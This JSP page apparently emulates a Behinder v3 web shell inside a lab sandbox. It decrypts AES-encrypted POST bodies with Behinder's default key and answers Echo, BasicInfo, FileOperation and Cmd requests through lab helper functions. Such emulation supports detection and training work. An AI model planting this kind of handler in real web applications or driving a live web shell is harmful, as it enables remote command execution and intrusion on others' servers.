<%@ include file="/WEB-INF/lab/LabShell.jspf" %><%
// Emulates a Behinder v3 JSP shell: the POST body is raw AES-128-ECB (key md5("rebeyond")[0:16]) of a
// Java class; the answer is the AES of {"status":..,"msg":..} with base64 fields. The "class" is
// only searched for the payload name and arguments; nothing is loaded.
if (request.getMethod().equals("POST")) {
    Cipher c = Cipher.getInstance("AES/ECB/PKCS5Padding");
    SecretKeySpec k = new SecretKeySpec("e45e329feb5d925b".getBytes(), "AES");
    c.init(Cipher.DECRYPT_MODE, k);
    byte[] clazz = c.doFinal(request.getInputStream().readAllBytes());
    List<String> strings = new ArrayList<>();
    for (int i = 8; i + 3 <= clazz.length && clazz[i] == 1;) {
        int len = ((clazz[i + 1] & 0xff) << 8) | (clazz[i + 2] & 0xff);
        if (i + 3 + len > clazz.length) break;
        strings.add(new String(clazz, i + 3, len, "UTF-8"));
        i += 3 + len;
    }
    String name = strings.isEmpty() ? "" : strings.get(0);
    String result;
    if (name.endsWith("/Echo")) result = strings.size() > 4 ? strings.get(4) : "";
    else if (name.endsWith("/BasicInfo")) result = "{\"basicInfo\":\"" + System.getProperty("os.name") + " " + System.getProperty("java.version") + "\",\"currentPath\":\"" + System.getProperty("lab.sandbox") + "\"}";
    else if (name.endsWith("/FileOperation")) result = labListing();
    else if (name.endsWith("/Cmd")) result = labRun(strings.size() > 4 ? strings.get(4) : "");
    else result = "";
    Base64.Encoder b64 = Base64.getEncoder();
    String json = "{\"status\":\"" + b64.encodeToString("success".getBytes()) + "\",\"msg\":\"" + b64.encodeToString(result.getBytes("UTF-8")) + "\"}";
    c.init(Cipher.ENCRYPT_MODE, k);
    byte[] answer = c.doFinal(json.getBytes("UTF-8"));
    out.clear();
    response.setCharacterEncoding("ISO-8859-1"); // Tomcat answers UTF-8 by default: bytes must pass unchanged
    out.write(new String(answer, "ISO-8859-1")); // the page's charset is ISO-8859-1: bytes pass unchanged
    return;
}
%>
